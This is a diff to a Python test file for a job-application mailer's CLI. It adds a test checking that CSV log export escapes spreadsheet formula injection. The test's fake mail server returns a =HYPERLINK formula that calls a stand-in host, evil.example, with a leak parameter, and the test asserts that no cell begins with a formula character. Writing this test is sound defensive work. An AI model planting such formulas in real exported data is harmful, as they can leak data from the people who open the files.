@@ -22,6 +22,7 @@ from conftest import SCRUB, SEND_PY, WITHDRAW_ARGS, clean_environ
 
 from jobmail.cli import main
 from jobmail.cli.views import CSV_COLUMNS
+from jobmail.loopback import Recorder
 from jobmail.store.sentlog import SentLog, utc_now
 
 POSIX_ONLY = pytest.mark.skipif(sys.platform.startswith("win"), reason="TZ is read from the environment on POSIX")
@@ -534,3 +535,25 @@ def test_a_console_code_page_without_the_characters_never_crashes(make_account, 
     )
     assert as_csv.returncode == 0, as_csv.stderr
     assert "Analityk – Łódź" in as_csv.stdout.decode("utf-8")
+
+
+class FormulaReplies(Recorder):
+    """A server whose 250 reply is a spreadsheet formula."""
+
+    async def handle_DATA(self, server, session, envelope):
+        await super().handle_DATA(server, session, envelope)
+        return '250 =HYPERLINK("http://evil.example/?leak=1","click")'
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(make_account, password):
+    account = make_account("starttls", handler=FormulaReplies())
+    account.store_password(password)
+    sent = account.run(*WITHDRAW_ARGS[:-2], "--company=-Acme")
+    assert sent.returncode == 0, sent.stderr
+    result = account.run("log", "--csv")
+    assert result.returncode == 0, result.stderr
+    row = next(csv.DictReader(io.StringIO(result.stdout)))
+    assert row["reply_text"] == '\'=HYPERLINK("http://evil.example/?leak=1","click")'
+    assert row["reply_code"] == "250" and row["status"] == "sent"
+    for cell in row.values():
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
